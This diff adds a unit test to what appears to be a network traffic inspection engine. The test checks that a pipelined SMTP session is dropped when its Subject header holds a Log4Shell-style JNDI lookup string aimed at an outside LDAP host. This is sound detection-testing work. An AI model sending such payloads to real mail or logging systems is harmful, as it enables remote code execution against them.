@@ -289,6 +289,20 @@ static void what_waits_for_its_end_is_judged_before_its_packet_goes_on(void)
     }
 }
 
+/* A client that does not wait for the replies, and whose mail has come whole with its commands. */
+static void a_mail_that_waits_for_no_reply_is_judged_before_it_goes_on(void)
+{
+    struct scene s;
+    begin(&s, drop_rules);
+    give(&s, TO_CLIENT, "220 mx.example.test ESMTP\r\n");
+    give(&s, TO_SERVER,
+         "EHLO a.example\r\nMAIL FROM:<a@a.example>\r\nRCPT TO:<b@b.example>\r\nDATA\r\n"
+         "Subject: ${jndi:ldap://203.0.113.9/a}\r\n\r\nhello\r\n.\r\nQUIT\r\n");
+    s.user.ops->judge(s.user.ctx, &s.conn);
+    CU_ASSERT_EQUAL(s.conn.verdict, VERDICT_DROP);
+    end(&s);
+}
+
 static void an_alert_waits_for_the_answer_but_not_for_ever(void)
 {
     struct scene s;
@@ -620,6 +634,8 @@ static CU_TestInfo tests[] = {
     {"a_finding_is_made_when_its_field_is_complete", a_finding_is_made_when_its_field_is_complete},
     {"what_waits_for_its_end_is_judged_before_its_packet_goes_on",
      what_waits_for_its_end_is_judged_before_its_packet_goes_on},
+    {"a_mail_that_waits_for_no_reply_is_judged_before_it_goes_on",
+     a_mail_that_waits_for_no_reply_is_judged_before_it_goes_on},
     {"an_alert_waits_for_the_answer_but_not_for_ever",
      an_alert_waits_for_the_answer_but_not_for_ever},
     {"a_body_in_pieces_is_looked_at_as_one", a_body_in_pieces_is_looked_at_as_one},
